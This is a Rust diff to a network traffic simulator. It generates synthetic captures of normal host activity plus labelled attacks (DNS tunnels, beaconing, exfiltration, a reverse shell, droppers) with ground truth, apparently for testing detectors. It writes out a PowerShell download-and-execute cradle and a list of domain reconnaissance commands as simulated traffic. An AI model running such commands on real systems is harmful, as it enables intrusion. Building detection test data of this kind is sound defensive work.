+            tcp.send(out, true, &d);
+            let d = app_data(&mut self.rng, down, &self.pool);
+            tcp.send(out, false, &d);
+        }
+        tcp.close(out);
+    }
+
+    fn update_check<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
+        let (ip, t2) = self.resolve(
+            out,
+            t,
+            host,
+            "aus5.mozilla.org",
+            &["balrog-aus5.r53-2.services.mozilla.com"],
+            false,
+        );
+        let c = self.host_ep(host, false);
+        let s = self.server(ip, 443);
+        let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 40_000, 100);
+        self.tls_session(
+            out,
+            &mut tcp,
+            Some("aus5.mozilla.org"),
+            ClientProfile::Firefox,
+            true,
+            false,
+            900,
+            1400,
+        );
+    }
+
+    fn conn_check<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
+        let (ip, t2) = self.resolve(
+            out,
+            t,
+            host,
+            "www.msftconnecttest.com",
+            &["www.msftconnecttest.com.edgesuite.net"],
+            false,
+        );
+        let c = self.host_ep(host, false);
+        let s = self.server(ip, 80);
+        let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 20_000, 50);
+        tcp.open(out);
+        tcp.send(out, true, b"GET /connecttest.txt HTTP/1.1\r\nConnection: Close\r\nUser-Agent: Microsoft NCSI\r\nHost: www.msftconnecttest.com\r\n\r\n");
+        tcp.send(out, false, b"HTTP/1.1 200 OK\r\nContent-Length: 22\r\nContent-Type: text/plain\r\nCache-Control: max-age=30, must-revalidate\r\n\r\nMicrosoft Connect Test");
+        tcp.close(out);
+    }
+
+    fn cloud_upload<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize, bytes: usize) {
+        let (ip, t2) = self.resolve(out, t, host, "storage.googleapis.com", &[], false);
+        let c = self.host_ep(host, false);
+        let s = self.server(ip, 443);
+        let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 20_000, 100);
+        self.tls_session(
+            out,
+            &mut tcp,
+            Some("storage.googleapis.com"),
+            ClientProfile::Chrome,
+            true,
+            false,
+            bytes,
+            4000,
+        );
+    }
+
+    fn tunnel_query<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, idx: usize) {
+        let (host, domain, enc, qtype, chunk, seq) = {
+            let tn = &mut self.tunnels[idx];
+            tn.seq += 1;
+            (
+                tn.host,
+                tn.domain.clone(),
+                tn.encoding,
+                tn.qtype,
+                tn.chunk,
+                tn.seq,
+            )
+        };
+        let data = self.rng.bytes(chunk);
+        let seq_label = format!("{seq:04x}");
+        let qwire = if enc == "iodine" {
+            let mut labels = vec![seq_label.into_bytes()];
+            // iodine-like: bytes outside ASCII, labels up to 63 bytes
+            let mut raw: Vec<u8> = data
+                .iter()
+                .map(|b| {
+                    if *b == b'.' || *b < 0x21 {
+                        b ^ 0x80
                     } else {
-                        (
-                            "download.mozilla.org",
-                            &["download.mozilla.org.cdn.mozilla.net"],
-                            "/?product=firefox-stub&os=win64&lang=en-US".to_string(),
-                            UAS[0],
-                            Some("https://www.mozilla.org/en-US/firefox/new/"),
-                        )
-                    };
-                let (ip, t2) = self.resolve(out, t, host, name, cnames, false);
-                let c = self.host_ep(host, false);
-                let s = self.server(ip, 80);
-                let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 20_000, 60);
-                tcp.open(out);
-                let referer = referer
-                    .map(|r| format!("Referer: {r}\r\n"))
-                    .unwrap_or_default();
-                let req = format!(
-                    "GET {path} HTTP/1.1\r\nHost: {name}\r\nUser-Agent: {ua}\r\n{referer}Accept: */*\r\n\r\n"
-                );
-                tcp.send(out, true, req.as_bytes());
-                let n = (self.rng.range(300_000, 1_500_000) as f64 * self.scale.min(1.0)) as usize;
-                let body = pe_image(&mut self.rng, n.max(20_000));
-                let disp = if kind == 1 {
-                    "Content-Disposition: attachment; filename=\"Firefox Installer.exe\"\r\n"
-                } else {
-                    ""
-                };
-                let mut resp = format!("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n{disp}Content-Length: {}\r\n\r\n", body.len()).into_bytes();
-                resp.extend_from_slice(&body);
-                tcp.send(out, false, &resp);
-                tcp.close(out);
+                        *b
+                    }
+                })
+                .collect();
+            while !raw.is_empty() {
+                let n = raw.len().min(57);
+                labels.push(raw.drain(..n).collect());
             }
-            Task::TlsExfil { idx, bytes } => {
-                let (host, dst, port, domain) = {
-                    let e = &self.tls_exfil[idx];
-                    (e.host, e.dst, e.port, e.domain.clone())
-                };
-                let t2 = self.dns_a(out, t, host, &domain, dst);
-                let c = self.host_ep(host, false);
-                let s = self.server(dst, port);
-                let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 50_000, 120);
-                let down = self.rng.range(500, 6000) as usize;
+            encode_raw_labels(&labels, &domain)
+        } else {
+            let s = match enc {
+                "hex" => hex(&data),
+                "base64url" => base64url(&data),
+                _ => base32(&data),
+            };
+            let mut name = seq_label;
+            for l in labels_of(&s, 63) {
+                name.push('.');
+                name.push_str(&l);
+            }
+            name.push('.');
+            name.push_str(&domain);
+            encode_name(&name)
+        };
+        let n = self.rng.range(8, 120) as usize;
+        let reply = self.rng.bytes(n);
+        let ans = match qtype {
+            16 => vec![Rr {
+                owner: None,
+                rtype: 16,
+                ttl: 0,
+                rdata: txt_rdata(base32(&reply).as_bytes()),
+            }],
+            10 => vec![Rr {
+                owner: None,
+                rtype: 10,
+                ttl: 0,
+                rdata: reply,
+            }],
+            5 => vec![Rr {
+                owner: None,
+                rtype: 5,
+                ttl: 0,
+                rdata: encode_name(&format!(
+                    "{}.{}",
+                    labels_of(&base32(&reply[..reply.len().min(36)]), 63).join("."),
+                    domain
+                )),
+            }],
+            15 => vec![Rr {
+                owner: None,
+                rtype: 15,
+                ttl: 0,
+                rdata: mx_rdata(
+                    10,
+                    &format!(
+                        "{}.{}",
+                        labels_of(&base32(&reply[..reply.len().min(36)]), 63).join("."),
+                        domain
+                    ),
+                ),
+            }],
+            _ => vec![Rr {
+                owner: None,
+                rtype: 1,
+                ttl: 0,
+                rdata: reply[..4].to_vec(),
+            }],
+        };
+        self.dns(out, t, host, &qwire, qtype, 0, &ans);
+    }
+
+    fn beacon<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, idx: usize, tasking: bool) {
+        let (host, transport, dst, port, domain, beats) = {
+            let b = &mut self.beacons[idx];
+            b.beats += 1;
+            (
+                b.host,
+                b.transport,
+                b.dst,
+                b.port,
+                b.domain.clone(),
+                b.beats,
+            )
+        };
+        let mut t0 = t;
+        if transport != "tcp" && transport != "http_ip" && beats % 10 == 1 {
+            t0 = self.dns_a(out, t, host, &domain, dst);
+        }
+        let c = self.host_ep(host, false);
+        let s = self.server(dst, port);
+        let mut tcp = Tcp::new(&mut self.rng, c, s, t0, 60_000, 200);
+        let down = if tasking {
+            self.rng.range(5_000, 50_000) as usize
+        } else {
+            self.rng.range(120, 260) as usize
+        };
+        match transport {
+            "tls" => {
+                let up = self.rng.range(180, 320) as usize;
                 self.tls_session(
                     out,
                     &mut tcp,
                     Some(&domain),
                     ClientProfile::Minimal,
                     false,
-                    false,
-                    bytes,
+                    true,
+                    up,
                     down,
+                )
+            }
+            "http" | "http_ip" => {
+                tcp.open(out);
+                let id = alnum(&mut self.rng, 12);
+                let host_hdr = if transport == "http_ip" {
+                    format!("{dst}:{port}")
+                } else {
+                    domain.clone()
+                };
+                let req = format!(
+                    "GET /api/v1/checkin?id={id} HTTP/1.1\r\nHost: {host_hdr}\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nAccept: */*\r\n\r\n"
                 );
+                tcp.send(out, true, req.as_bytes());
+                tcp.idle(2000);
+                let body = self.rng.bytes(down);
+                let mut resp = format!("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
+                resp.extend_from_slice(&body);
+                tcp.send(out, false, &resp);
+                tcp.close(out);
+            }
+            _ => {
+                tcp.open(out);
+                let n = self.rng.range(40, 90) as usize;
+                let hello = self.rng.bytes(n);
+                tcp.send(out, true, &hello);
+                let body = self.rng.bytes(down);
+                tcp.send(out, false, &body);
+                tcp.close(out);
             }
         }
+    }
+
+    fn http_exfil<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, idx: usize, bytes: usize) {
+        let (host, dst, port, domain, method, chunked, compressible) = {
+            let e = &self.http_exfil[idx];
+            (
+                e.host,
+                e.dst,
+                e.port,
+                e.domain.clone(),
+                e.method,
+                e.chunked,
+                e.compressible,
+            )
+        };
+        let c = self.host_ep(host, false);
+        let s = self.server(dst, port);
+        let mut tcp = Tcp::new(&mut self.rng, c, s, t, 40_000, 150);
+        tcp.open(out);
+        let body: Vec<u8> = if compressible {
+            self.text.iter().cycle().take(bytes).copied().collect()
+        } else {
+            self.pool
+                .iter()
+                .cycle()
+                .skip(self.rng.range(0, 1000) as usize)
+                .take(bytes)
+                .copied()
+                .collect()
+        };
+        let hostname = if port == 80 {
+            domain.clone()
+        } else {
+            format!("{domain}:{port}")
+        };
+        let mut req = if chunked {
+            format!("{method} /upload/{} HTTP/1.1\r\nHost: {hostname}\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\n\r\n", alnum(&mut self.rng, 8)).into_bytes()
+        } else {
+            format!("{method} /upload/{} HTTP/1.1\r\nHost: {hostname}\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\n\r\n", alnum(&mut self.rng, 8), body.len()).into_bytes()
+        };
+        if chunked {
+            for ch in body.chunks(8192) {
+                req.extend_from_slice(format!("{:x}\r\n", ch.len()).as_bytes());
+                req.extend_from_slice(ch);
+                req.extend_from_slice(b"\r\n");
+            }
+            req.extend_from_slice(b"0\r\n\r\n");
+        } else {
+            req.extend_from_slice(&body);
+        }
+        tcp.send(out, true, &req);
+        tcp.send(out, false, b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 16\r\n\r\n{\"status\":\"ok\"}\n");
+        tcp.close(out);
+    }
+
+    fn dropper<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, idx: usize) {
+        let (host, dst, host_hdr, by_name, variant) = {
+            let d = &self.droppers[idx];
+            (d.host, d.dst, d.host_hdr.clone(), d.by_name, d.variant)
+        };
+        let t2 = if by_name {
+            self.dns_a(out, t, host, &host_hdr, dst)
+        } else {
+            t
+        };
+        let c = self.host_ep(host, false);
+        let s = self.server(dst, 80);
+        let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 60_000, 120);
+        tcp.open(out);
+        let n = self.rng.range(90_000, 400_000) as usize;
+        let name = alnum(&mut self.rng, 10);
+        let browser = *self.rng.pick(UAS);
+        let (path, ua, ctype, body) = match variant {
+            "pe" => (
+                format!("/download/{name}.exe"),
+                browser.to_string(),
+                "application/x-msdownload",
+                pe_image(&mut self.rng, n),
+            ),
+            "pe_as_image" => (
+                format!("/images/{name}.jpg"),
+                browser.to_string(),
+                "image/jpeg",
+                pe_image(&mut self.rng, n),
+            ),
+            // an exploit kit's drop: encrypted for the victim, declared as what it becomes
+            "encrypted" => (
+                format!(
+                    "/?{}={}&q={}",
+                    alnum(&mut self.rng, 3),
+                    alnum(&mut self.rng, 24),
+                    alnum(&mut self.rng, 40)
+                ),
+                "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0)".to_string(),
+                "application/x-msdownload",
+                self.rng.bytes(n),
+            ),
+            _ => {
+                let stage = format!(
+                    "$u='http://{host_hdr}/{}';$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString($u)\r\n",
+                    alnum(&mut self.rng, 12)
+                );
+                (format!("/{name}"), "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4780".to_string(), "text/plain", stage.into_bytes())
+            }
+        };
+        let req = format!(
+            "GET {path} HTTP/1.1\r\nHost: {host_hdr}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nConnection: Keep-Alive\r\n\r\n"
+        );
+        tcp.send(out, true, req.as_bytes());
+        tcp.idle(self.rng.range(20_000, 200_000) as i64);
+        let mut resp = format!("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
+        resp.extend_from_slice(&body);
+        tcp.send(out, false, &resp);
+        tcp.close(out);
+    }
+
+    fn shell<W: Write>(
+        &mut self,
+        out: &mut PcapOut<W>,
+        t: i64,
+        host: usize,
+        dst: IpAddr,
+        port: u16,
+        until: i64,
+    ) {
+        let c = self.host_ep(host, false);
+        let s = self.server(dst, port);
+        let mut tcp = Tcp::new(&mut self.rng, c, s, t, 80_000, 200);
+        tcp.open(out);
+        let banner = b"Microsoft Windows [Version 10.0.19045.4651]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\Public>";
+        tcp.send(out, true, banner);
+        while tcp.t < until {
+            // think time: irregular (an operator), never long enough to time the flow out
+            tcp.idle((self.rng.exp(35e6) as i64).clamp(2_000_000, 170_000_000));
+            let cmd = self
+                .rng
+                .pick(&[
+                    "whoami /all",
+                    "ipconfig /all",
+                    "net group \"domain admins\" /domain",
+                    "dir C:\\Users",
+                    "tasklist /v",
+                    "systeminfo",
+                    "nltest /dclist:",
+                    "type C:\\Users\\Public\\notes.txt",
+                ])
+                .to_string();
+            tcp.send(out, false, format!("{cmd}\r\n").as_bytes());
+            let n = self.rng.range(60, 4000) as usize;
+            let mut answer = self.text[..n.min(self.text.len())].to_vec();
+            answer.extend_from_slice(b"\r\nC:\\Users\\Public>");
+            tcp.send(out, true, &answer);
+        }
+        tcp.close(out);
+    }
+
+    fn vendor_download<W: Write>(
+        &mut self,
+        out: &mut PcapOut<W>,
+        t: i64,
+        host: usize,
+        kind: usize,
+    ) {
+        let (name, cnames, path, ua, referer): (&str, &[&str], String, &str, Option<&str>) =
+            if kind == 0 {
+                (
+                    "download.windowsupdate.com",
+                    &["download.windowsupdate.com.edgesuite.net"],
+                    format!(
+                        "/c/msdownload/update/software/secu/2026/11/windows10.0-kb{}-x64_{}.exe",
+                        self.rng.range(5_000_000, 5_100_000),
+                        proto::hex(&self.rng.bytes(20))
+                    ),
+                    "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50",
+                    None,
+                )
+            } else {
+                (
+                    "download.mozilla.org",
+                    &["download.mozilla.org.cdn.mozilla.net"],
+                    "/?product=firefox-stub&os=win64&lang=en-US".to_string(),
+                    UAS[0],
+                    Some("https://www.mozilla.org/en-US/firefox/new/"),
+                )
+            };
+        let (ip, t2) = self.resolve(out, t, host, name, cnames, false);
+        let c = self.host_ep(host, false);
+        let s = self.server(ip, 80);
+        let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 20_000, 60);
+        tcp.open(out);
+        let referer = referer
+            .map(|r| format!("Referer: {r}\r\n"))
+            .unwrap_or_default();
+        let req = format!(
+            "GET {path} HTTP/1.1\r\nHost: {name}\r\nUser-Agent: {ua}\r\n{referer}Accept: */*\r\n\r\n"
+        );
+        tcp.send(out, true, req.as_bytes());
+        let n = (self.rng.range(300_000, 1_500_000) as f64 * self.scale.min(1.0)) as usize;
+        let body = pe_image(&mut self.rng, n.max(20_000));
+        let disp = if kind == 1 {
+            "Content-Disposition: attachment; filename=\"Firefox Installer.exe\"\r\n"
+        } else {
+            ""
+        };
+        let mut resp = format!("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n{disp}Content-Length: {}\r\n\r\n", body.len()).into_bytes();
+        resp.extend_from_slice(&body);
+        tcp.send(out, false, &resp);
+        tcp.close(out);
+    }
+
+    fn tls_exfil<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, idx: usize, bytes: usize) {
+        let (host, dst, port, domain) = {
+            let e = &self.tls_exfil[idx];
+            (e.host, e.dst, e.port, e.domain.clone())
+        };
+        let t2 = self.dns_a(out, t, host, &domain, dst);
+        let c = self.host_ep(host, false);
+        let s = self.server(dst, port);
+        let mut tcp = Tcp::new(&mut self.rng, c, s, t2, 50_000, 120);
+        let down = self.rng.range(500, 6000) as usize;
+        self.tls_session(
+            out,
+            &mut tcp,
+            Some(&domain),
+            ClientProfile::Minimal,
+            false,
+            false,
+            bytes,
+            down,
+        );
     }
 }
 
 const START_US: i64 = 1_796_115_600_000_000; // 2026-12-01T09:00:00Z
+
+/// The scenario's tasks in time order of planning; `tie` keeps tasks planned for the same
+/// microsecond in the order they were planned.
+#[derive(Default)]
+struct Schedule {
+    tasks: Vec<(i64, u64, Task)>,
+    tie: u64,
+}
+
+impl Schedule {
+    fn add(&mut self, t: i64, task: Task) {
+        self.tie += 1;
+        self.tasks.push((t, self.tie, task));
+    }
+
+    /// A fixed period with a little jitter, from a random phase, over [from, to).
+    fn periodic(
+        &mut self,
+        rng: &mut Rng,
+        from: i64,
+        to: i64,
+        period_us: u64,
+        jitter_us: u64,
+        task: &dyn Fn() -> Task,
+    ) {
+        let mut t = from + rng.range(0, period_us) as i64;
+        while t < to {
+            self.add(t, task());
+            t += (period_us + rng.range(0, jitter_us)) as i64;
+        }
+    }
+
+    /// The tasks in time order (ties in planning order).
+    fn into_sorted(mut self) -> Vec<(i64, u64, Task)> {
+        self.tasks.sort_by_key(|(t, tie, _)| (*t, *tie));
+        self.tasks
+    }
+}
+
+/// Everyday traffic of `n` hosts over [from, to): browsing, antivirus and DNSBL lookups, mDNS,
+/// NTP, monitoring, update and connectivity checks, long sessions with heartbeats, reverse lookups.
+fn background(s: &mut Schedule, rng: &mut Rng, n: usize, from: i64, to: i64) {
+    for h in 0..n {
+        // browsing sessions: exponential gaps between sessions, log-normal think times inside
+        let mut t = from + rng.exp(240e6) as i64;
+        while t < to {
+            let visits = rng.range(2, 12);
+            let mut tv = t;
+            for _ in 0..visits {
+                if tv >= to {
+                    break;
+                }
+                s.add(tv, Task::Visit { host: h });
+                tv += rng.lognormal(20e6, 1.0) as i64 + 500_000;
+            }
+            t = tv + rng.exp(600e6) as i64;
+        }
+        // antivirus reputation lookups: bursts during file scans (every host runs the agent)
+        let mut t = from + rng.exp(600e6) as i64;
+        while t < to {
+            for k in 0..rng.range(3, 15) {
+                s.add(
+                    t + k as i64 * rng.range(50_000, 2_000_000) as i64,
+                    Task::AvLookup { host: h },
+                );
+            }
+            t += rng.exp(1200e6) as i64;
+        }
+        // mDNS service discovery
+        let mut t = from + rng.range(0, 120_000_000) as i64;
+        while t < to {
+            s.add(t, Task::Mdns { host: h });
+            t += rng.lognormal(300e6, 0.5) as i64;
+        }
+        // NTP every 64 s and the monitoring agent every 60 s (fixed periods, every host)
+        s.periodic(rng, from, to, 64_000_000, 400_000, &|| Task::Ntp {
+            host: h,
+        });
+        s.periodic(rng, from, to, 60_000_000, 300_000, &|| Task::Monitor {
+            host: h,
+        });
+        // hourly update checks, and connectivity checks every 300 s
+        if h % 2 == 1 {
+            s.periodic(rng, from, to, 3_600_000_000, 20_000_000, &|| {
+                Task::UpdateCheck { host: h }
+            });
+        }
+        s.periodic(rng, from, to, 300_000_000, 2_000_000, &|| Task::ConnCheck {
+            host: h,
+        });
+        // long sessions with heartbeats: push (every other host), websocket pings, cast
+        for (kind, every) in [(0usize, 2usize), (1, 3), (2, 5)] {
+            if h % every == kind % every {
+                let t = from + rng.range(0, 30_000_000) as i64;
+                s.add(
+                    t,
+                    Task::Session {
+                        host: h,
+                        kind,
+                        until: to,
+                    },
+                );
+            }
+        }
+        if h == 1 {
+            s.add(
+                from + rng.range(0, 10_000_000) as i64,
+                Task::Session {
+                    host: h,
+                    kind: 3,
+                    until: to,
+                },
+            );
+        }
+        // reverse lookups
+        let mut t = from + rng.exp(900e6) as i64;
+        while t < to {
+            s.add(t, Task::Reverse { host: h });
+            t += rng.exp(900e6) as i64;
+        }
+    }
+    // the mail server (host 0) checks DNSBLs for incoming senders
+    let mut t = from + rng.exp(30e6) as i64;
+    while t < to {
+        s.add(t, Task::Dnsbl { host: 0 });
+        t += rng.exp(40e6) as i64;
+    }
+}
+
+/// The scenario's time frame as the attack planners see it: attacks happen inside [a0, a1), and
+/// short scenarios (`small`) keep their volumes small.
+#[derive(Clone, Copy)]
+struct Window {
+    start: i64,
+    end: i64,
+    dur: i64,
+    a0: i64,
+    a1: i64,
+    small: bool,
+}
+fn plan_dns_tunnel(
+    world: &mut World,
+    sched: &mut Schedule,
+    truth: &mut Truth,
+    at: &Window,
+    h: usize,
+    src: String,
+) {
+    let Window { a0, a1, small, .. } = *at;
+    let r = &mut world.rng;
+    let domain = rand_domain(r);
+    let encoding = *r.pick(&["base32", "hex", "base64url", "iodine"]);
+    let (qtype, qname) = *r.pick(&[
+        (16u16, "TXT"),
+        (10, "NULL"),
+        (5, "CNAME"),
+        (1, "A"),
+        (15, "MX"),
+    ]);
+    let bursty = r.chance(0.5);
+    let chunk = match encoding {
+        "hex" => r.range(30, 60),
+        "iodine" => r.range(80, 140),
+        _ => r.range(45, 90),
+    } as usize;
+    let total = if bursty {
+        r.range(20_000, 120_000)
+    } else {
+        r.range(2_000, 8_000)
+    } as usize;
+    let total = if small { total.min(30_000) } else { total };
+    let queries = (total / chunk).max(12);
+    world.tunnels.push(Tunnel {
+        host: h,
+        domain: domain.clone(),
+        encoding,
+        qtype,
+        chunk,
+        seq: r.range(0, 4000) as u32,
+    });
+    let idx = world.tunnels.len() - 1;
+    if bursty {
+        let bursts = r.range(1, 4);
+        let per = queries as u64 / bursts + 1;
+        for _ in 0..bursts {
+            let mut t = r.range(a0 as u64, a1 as u64) as i64;
+            let qps = r.uniform(5.0, 30.0);
+            for _ in 0..per {
+                sched.add(t, Task::TunnelQuery { idx });
+                t += (r.exp(1e6 / qps) as i64).max(1000);
+            }
+        }
+    } else {
+        let step = (a1 - a0) / queries as i64;
+        for k in 0..queries {
+            let t = a0 + k as i64 * step + r.range(0, step as u64 / 2 + 1) as i64;
+            sched.add(t, Task::TunnelQuery { idx });
+        }
+    }
+    truth.attacks.push(AttackTruth { category: "dns_tunnel".into(), kind: format!("dns_tunnel_{encoding}_{qname}"), src_ip: src, dst_ip: Some(world.resolver.ip.to_string()), dst_port: Some(53), domain: Some(domain), parameters: json!({"encoding": encoding, "qtype": qname, "mode": if bursty {"bursty"} else {"slow"}, "raw_bytes": queries * chunk, "queries": queries, "bytes_per_query": chunk}) });
+}
+
+fn plan_beaconing(
+    world: &mut World,
+    sched: &mut Schedule,
+    truth: &mut Truth,
+    at: &Window,
+    h: usize,
+    src: String,
+) {
+    let Window { a0, a1, .. } = *at;
+    let r = &mut world.rng;
+    let transport = *r.pick(&["http", "http_ip", "tls", "tcp"]);
+    let domain = rand_domain(r);
+    let dst = IpAddr::V4(public_v4(&domain));
+    let port = match transport {
+        "http" | "http_ip" => *r.pick(&[80u16, 8080]),
+        "tls" => *r.pick(&[443u16, 8443]),
+        _ => *r.pick(&[4444u16, 8000, 5555, 1337]),
+    };
+    let max_period = ((a1 - a0) as f64 / 1e6 / 15.0).min(1800.0).max(5.0);
+    let period = r.log_uniform(5.0, max_period);
+    let jitter = r.uniform(0.0, 0.35);
+    let missed = r.uniform(0.0, 0.1);
+    world.beacons.push(Beacon {
+        host: h,
+        transport,
+        dst,
+        port,
+        domain: domain.clone(),
+        beats: 0,
+    });
+    let idx = world.beacons.len() - 1;
+    let mut t = a0 + r.range(0, (period * 1e6) as u64) as i64;
+    let mut beats = 0;
+    while t < a1 {
+        if !r.chance(missed) {
+            let tasking = r.chance(0.05);
+            sched.add(t, Task::Beacon { idx, tasking });
+            beats += 1;
+        }
+        t += (period * 1e6 * (1.0 + jitter * r.uniform(-1.0, 1.0))) as i64;
+    }
+    truth.attacks.push(AttackTruth { category: "beaconing".into(), kind: format!("beacon_{transport}"), src_ip: src, dst_ip: Some(dst.to_string()), dst_port: Some(port), domain: (transport != "tcp" && transport != "http_ip").then_some(domain), parameters: json!({"transport": transport, "period_s": (period * 100.0).round() / 100.0, "jitter": (jitter * 1000.0).round() / 1000.0, "missed_probability": (missed * 1000.0).round() / 1000.0, "check_ins": beats}) });
+}
+
+fn plan_http_exfil(
+    world: &mut World,
+    sched: &mut Schedule,
+    truth: &mut Truth,
+    at: &Window,
+    h: usize,
+    src: String,
+) {
+    let Window { a0, a1, small, .. } = *at;
+    let r = &mut world.rng;
+    let domain = rand_domain(r);
+    let dst = IpAddr::V4(public_v4(&domain));
+    let port = *r.pick(&[80u16, 8080, 3333]);
+    let method = *r.pick(&["POST", "PUT"]);
+    let chunked = r.chance(0.5);
+    let many = r.chance(0.5);
+    let total = if small {
+        r.range(1_300_000, 1_800_000)
+    } else {
+        r.range(2_000_000, 40_000_000)
+    } as usize;
+    world.http_exfil.push(Exfil {
+        host: h,
+        dst,
+        port,
+        domain: domain.clone(),
+        method,
+        chunked,
+        compressible: true,
+    });
+    let idx = world.http_exfil.len() - 1;
+    let conns = if many { r.range(8, 40) as usize } else { 1 };
+    let t0 = r.range(a0 as u64, (a0 + (a1 - a0) / 2) as u64) as i64;
+    let gap = (a1 - t0) / conns as i64;
+    for k in 0..conns {
+        sched.add(
+            t0 + k as i64 * gap,
+            Task::HttpExfil {
+                idx,
+                bytes: total / conns,
+            },
+        );
+    }
+    truth.attacks.push(AttackTruth { category: "exfiltration".into(), kind: "http_exfil".into(), src_ip: src, dst_ip: Some(dst.to_string()), dst_port: Some(port), domain: Some(if port == 80 { domain } else { format!("{domain}:{port}") }), parameters: json!({"method": method, "chunked": chunked, "connections": conns, "bytes": total}) });
+}
+
+fn plan_tls_exfil(
+    world: &mut World,
+    sched: &mut Schedule,
+    truth: &mut Truth,
+    at: &Window,
+    h: usize,
+    src: String,
+) {
+    let Window { a0, a1, small, .. } = *at;
+    let r = &mut world.rng;
+    let domain = rand_domain(r);
+    let dst = IpAddr::V4(public_v4(&domain));
+    let total = if small {
+        r.range(1_050_000, 1_250_000)
+    } else {
+        r.range(3_000_000, 50_000_000)
+    } as usize;
+    world.tls_exfil.push(Exfil {
+        host: h,
+        dst,
+        port: 443,
+        domain: domain.clone(),
+        method: "",
+        chunked: false,
+        compressible: false,
+    });
+    let idx = world.tls_exfil.len() - 1;
+    let t = r.range(a0 as u64, a1 as u64) as i64;
+    sched.add(t, Task::TlsExfil { idx, bytes: total });
+    truth.attacks.push(AttackTruth {
+        category: "exfiltration".into(),
+        kind: "tls_exfil".into(),
+        src_ip: src,
+        dst_ip: Some(dst.to_string()),
+        dst_port: Some(443),
+        domain: Some(domain),
+        parameters: json!({"bytes": total}),
+    });
+}
+
+fn plan_reverse_shell(
+    world: &mut World,
+    sched: &mut Schedule,
+    truth: &mut Truth,
+    at: &Window,
+    h: usize,
+    src: String,
+) {
+    let Window {
+        start, end, dur, ..
+    } = *at;
+    let r = &mut world.rng;
+    let dst = IpAddr::V4(public_v4(&format!("shell-{}", r.u64())));
+    let port = *r.pick(&[4444u16, 8888, 1337, 9001, 6666, 31337]);
+    let t0 = r.range((start + dur / 40) as u64, (start + dur / 5) as u64) as i64;
+    let until = end - r.range(0, (dur / 10) as u64) as i64;
+    sched.add(
+        t0,
+        Task::Shell {
+            host: h,
+            dst,
+            port,
+            until,
+        },
+    );
+    truth.attacks.push(AttackTruth {
+        category: "long_connection".into(),
+        kind: "reverse_shell".into(),
+        src_ip: src,
+        dst_ip: Some(dst.to_string()),
+        dst_port: Some(port),
+        domain: None,
+        parameters: json!({"port": port, "duration_s": (until - t0) / 1_000_000}),
+    });
+}
+
+fn plan_dropper(
+    world: &mut World,
+    sched: &mut Schedule,
+    truth: &mut Truth,
+    at: &Window,
+    h: usize,
+    src: String,
+) {
+    let Window { a0, a1, .. } = *at;
+    let r = &mut world.rng;
+    let variant = *r.pick(&["pe", "pe_as_image", "encrypted", "powershell"]);
+    let domain = rand_domain(r);
+    let dst = IpAddr::V4(public_v4(&domain));
+    let by_name = r.chance(0.6);
+    let host_hdr = if by_name {
+        domain.clone()
+    } else {
+        dst.to_string()
+    };
+    world.droppers.push(Dropper {
+        host: h,
+        dst,
+        host_hdr: host_hdr.clone(),
+        by_name,
+        variant,
+    });
+    let idx = world.droppers.len() - 1;
+    let t = r.range(a0 as u64, a1 as u64) as i64;
+    sched.add(t, Task::Dropper { idx });
+    truth.attacks.push(AttackTruth {
+        category: "download".into(),
+        kind: format!("dropper_{variant}"),
+        src_ip: src,
+        dst_ip: Some(dst.to_string()),
+        dst_port: Some(80),
+        domain: by_name.then_some(domain),
+        parameters: json!({"variant": variant, "host": host_hdr}),
+    });
+}
 
 /// Build the scenario and write the capture to `w`. Returns the truth.
 pub fn simulate<W: Write>(cfg: &SimConfig, w: W) -> Result<(Truth, W), SimError> {
@@ -1446,119 +1908,9 @@ pub fn simulate<W: Write>(cfg: &SimConfig, w: W) -> Result<(Truth, W), SimError>
         lookalikes: Vec::new(),
     };
     let n = hosts.len();
-    let mut tasks: Vec<(i64, u64, Task)> = Vec::new();
-    let mut tie = 0u64;
-    let mut add = |tasks: &mut Vec<(i64, u64, Task)>, t: i64, task: Task| {
-        tie += 1;
-        tasks.push((t, tie, task));
-    };
-    let background =
-        |tasks: &mut Vec<(i64, u64, Task)>,
-         rng: &mut Rng,
-         from: i64,
-         to: i64,
-         add: &mut dyn FnMut(&mut Vec<(i64, u64, Task)>, i64, Task)| {
-            for h in 0..n {
-                // browsing sessions: exponential gaps between sessions, log-normal think times inside
-                let mut t = from + rng.exp(240e6) as i64;
-                while t < to {
-                    let visits = rng.range(2, 12);
-                    let mut tv = t;
-                    for _ in 0..visits {
-                        if tv >= to {
-                            break;
-                        }
-                        add(tasks, tv, Task::Visit { host: h });
-                        tv += rng.lognormal(20e6, 1.0) as i64 + 500_000;
-                    }
